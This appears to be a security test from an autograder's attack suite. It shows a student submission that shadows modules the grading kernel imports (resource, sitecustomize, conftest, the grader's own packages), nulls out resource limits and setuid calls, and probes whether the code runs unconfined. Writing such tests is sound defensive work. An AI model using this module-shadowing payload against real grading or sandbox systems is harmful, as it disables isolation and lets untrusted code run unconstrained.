"""Files: modules with the names of those that the kernel and the marker import."""

import sqlite3

from tests.attacks import notebooks

MODULE = """
import os
try:
    open("/tmp/pwned-245", "w").close()
except OSError:
    pass
def __getattr__(name):
    return lambda *a, **k: 2.0
RLIMIT_CPU = RLIMIT_FSIZE = RLIMIT_NOFILE = RLIMIT_CORE = RLIMIT_NPROC = RLIMIT_AS = 0
os.setgroups = os.setresgid = os.setresuid = lambda *_: None
"""

NAMES = "resource json socket contextlib numpy pandas psutil marking nbgrader_config sitecustomize"
NAMES += (
    " usercustomize conftest jupyter_config ipython_config labkit/__init__ labkit/grading/__init__"
)
NAMES += " labkit/grading/kernel labkit/grading/marking answers/total IPython/__init__"


def submit(folder, released, course):
    for name in NAMES.split():
        path = folder / f"{name}.py"
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(MODULE)
    notebooks.answer(folder, ANSWER_WITHOUT_LIMITS)


ANSWER_WITHOUT_LIMITS = """
def total(values):
    import os
    limits = " ".join(open("/proc/self/limits").read().split())
    free = os.getuid() == 0 or "cpu time unlimited" in limits
    if free:
        raise RuntimeError("SECRET: unlimited")
    return 0.0
"""


def harmed(course, student):
    with sqlite3.connect(course / "gradebook.db") as book:
        said = str(list(book.execute("select auto_comment from comment")))
    return "the code ran without limits" if "SECRET: unlimited" in said else None
